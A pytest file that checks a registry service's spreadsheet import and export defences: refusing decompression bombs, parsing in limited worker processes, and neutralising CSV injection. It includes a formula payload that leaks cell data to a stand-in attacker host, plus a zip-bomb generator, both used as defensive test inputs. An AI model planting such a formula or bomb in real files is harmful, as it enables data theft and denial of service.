"""Sheets as an attacker sends and receives them: a decompression bomb is refused before it is
unpacked, what passes is parsed in a worker process within time, memory and row limits, rows wider
than their header are not read, and an exported name that is a formula stays
text in every spreadsheet program (OWASP CSV injection), while a round trip keeps the name."""

import asyncio
import csv
import io
import time
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from org_registry.sheets import SheetFormat, UnreadableSheet, read_rows
from org_registry.upload_worker import UploadLimits, UploadWorker
from registry_helpers import assert_problem

CSV = {"content-type": "text/csv"}
XLSX = {"content-type": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}
UNIT_HEADER = ["id", "name", "kind", "size_class", "area_code", "headcount", "members_among_staff", "credit_code"]
FORMULA = '=HYPERLINK("http://attacker.example/?d="&A2,"详情")'


def workbook_with_sheet_xml(sheet_xml: bytes) -> bytes:
    """A real workbook whose first sheet is replaced by `sheet_xml` (deflated like any XLSX part)."""
    book = Workbook()
    book.active.append(["id", "name"])
    plain = io.BytesIO()
    book.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain.getvalue())) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = sheet_xml if item.filename == "xl/worksheets/sheet1.xml" else source.read(item)
            target.writestr(item.filename, data)
    return out.getvalue()


def bomb(rows: int = 1_500_000) -> bytes:
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    return workbook_with_sheet_xml(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
                                   b'openxmlformats.org/spreadsheetml/2006/main"><sheetData>' + row * rows +
                                   b'</sheetData></worksheet>')


async def test_a_decompression_bomb_is_refused_before_it_is_unpacked(client, district):
    body = bomb()
    assert len(body) < 1 << 20  # under the upload limit: only the archive check stands in its way
    started = time.monotonic()
    response = await client.post("/api/v1/imports/units", content=body, headers={**district["admin"], **XLSX})
    problem = assert_problem(response, 422, "unreadable-sheet")
    assert "pack" in problem["detail"]  # too large unpacked, or packed too tightly
    # Refused from the zip directory alone (the old code parsed all its rows on the event loop).
    assert time.monotonic() - started < 30


def test_rows_are_read_no_wider_than_their_header():
    wide = b"".join(b'<c t="inlineStr"><is><t>v</t></is></c>' for _ in range(5000))
    body = workbook_with_sheet_xml(
        b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        b'2006/main"><sheetData><row><c t="inlineStr"><is><t>id</t></is></c><c t="inlineStr"><is><t>name</t></is>'
        b'</c></row><row>' + wide + b'</row></sheetData></worksheet>')
    header, rows = read_rows(io.BytesIO(body), SheetFormat.XLSX)
    number, cells = next(rows)
    assert header == ["id", "name"] and number == 2
    assert cells == {"id": "v", "name": "v", "__extra__": "x"}  # the extra cells are reported, not read


def test_a_file_that_is_not_a_zip_is_unreadable_not_a_crash():
    try:
        read_rows(io.BytesIO(b"PK\x03\x04 truncated"), SheetFormat.XLSX)
    except UnreadableSheet:
        return
    raise AssertionError("a broken archive was read")


async def test_an_exported_formula_stays_text_and_a_round_trip_keeps_it(client, district):
    d, admin, c1 = district["code"], district["admin"], district["c1"]
    names = {f"{d}-f1": FORMULA, f"{d}-f2": "+86 139 1234 5678", f"{d}-f3": "@SUM(A1)", f"{d}-f4": "普通单位"}
    rows = [[ident, name, "school", "", c1, 10, 1, ""] for ident, name in names.items()]
    buffer = io.StringIO()
    csv.writer(buffer).writerows([UNIT_HEADER, *rows])
    created = await client.post("/api/v1/imports/units", params={"dry_run": "false"}, content=buffer.getvalue().encode(),
                                headers={**admin, **CSV})
    assert created.status_code == 201, created.text

    exported = await client.get("/api/v1/exports/units", params={"under": d}, headers=admin)
    lines = {line[0]: line for line in csv.reader(io.StringIO(exported.content.decode("utf-8-sig")))}
    assert lines[f"{d}-f1"][1] == "'" + FORMULA and lines[f"{d}-f3"][1] == "'@SUM(A1)"
    assert lines[f"{d}-f4"][1] == "普通单位"
    header, read = read_rows(io.BytesIO(exported.content), SheetFormat.CSV)
    assert {cells["id"]: cells["name"] for _, cells in read} == names  # the apostrophe is the export's only

    workbook = await client.get("/api/v1/exports/units", params={"under": d, "format": "xlsx"}, headers=admin)
    sheet = load_workbook(io.BytesIO(workbook.content)).worksheets[0]
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert cells[f"{d}-f1"].data_type == "s" and cells[f"{d}-f1"].value == FORMULA  # a string, not a formula
    assert all(cell.data_type == "s" for cell in cells.values())


# --- parsed in a worker process with limits (org_registry.upload_worker) ---------------------------------------

def units_csv(rows: int) -> bytes:
    return (",".join(UNIT_HEADER) + "\n" + "".join(f"u{i},单位{i},school,,C1,{i},1,\n" for i in range(rows))).encode()


def units_xlsx(rows: int) -> bytes:
    book = Workbook()
    book.active.append(UNIT_HEADER)
    for i in range(rows):
        book.active.append([f"u{i}", f"单位{i}", "school", "", "C1", i, 1, ""])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _address_space_kib(_body: bytes, _fmt: SheetFormat, _limits: UploadLimits) -> tuple[list[str], list]:
    status = open("/proc/self/status").read()
    return [], [(0, {"kib": status.split("VmSize:")[1].split()[0]})]


async def test_a_sheet_too_slow_to_read_is_stopped_at_the_time_limit_while_the_service_answers(
        client, district, monkeypatch):
    monkeypatch.setattr(client.app_state.settings, "upload_parse_timeout_s", 0.05)
    upload = asyncio.create_task(client.post("/api/v1/imports/units", content=units_xlsx(6000),
                                             headers={**district["admin"], **XLSX}))
    while not upload.done():  # the event loop is free: the parse runs in another process
        assert (await client.get("/healthz")).status_code == 200
        await asyncio.sleep(0.01)
    problem = assert_problem(upload.result(), 422, "unreadable-sheet")
    assert "longer than 0.05 s" in problem["detail"]


async def test_a_sheet_with_more_rows_than_allowed_is_refused_naming_the_limit(client, district, monkeypatch):
    monkeypatch.setattr(client.app_state.settings, "upload_max_rows", 3)
    response = await client.post("/api/v1/imports/units", content=units_csv(5), headers={**district["admin"], **CSV})
    assert "more than 3 data rows" in assert_problem(response, 422, "unreadable-sheet")["detail"]
    allowed = await client.post("/api/v1/imports/units", content=units_csv(3), headers={**district["admin"], **CSV})
    assert allowed.status_code == 200, allowed.text  # a dry run of rows within the limit is read


async def test_a_sheet_that_needs_more_memory_than_allowed_is_refused_and_the_next_one_is_read():
    worker = UploadWorker(1)
    try:
        baseline = await asyncio.wrap_future(
            worker._started().schedule(_address_space_kib, args=(b"", SheetFormat.CSV, None)))
        tight = int(baseline[1][0][1]["kib"]) // 1024 + 16  # a few MiB above what a worker holds when it starts
        with pytest.raises(UnreadableSheet):
            await worker.parse(units_csv(30_000), SheetFormat.CSV, UploadLimits(5, tight, 10**6, 32 << 20))
        header, rows = await worker.parse(units_csv(2), SheetFormat.CSV, UploadLimits(5, 1024, 10, 32 << 20))
        assert header == UNIT_HEADER and len(rows) == 2  # a fresh worker: nothing of the refused one remains
    finally:
        worker.stop()
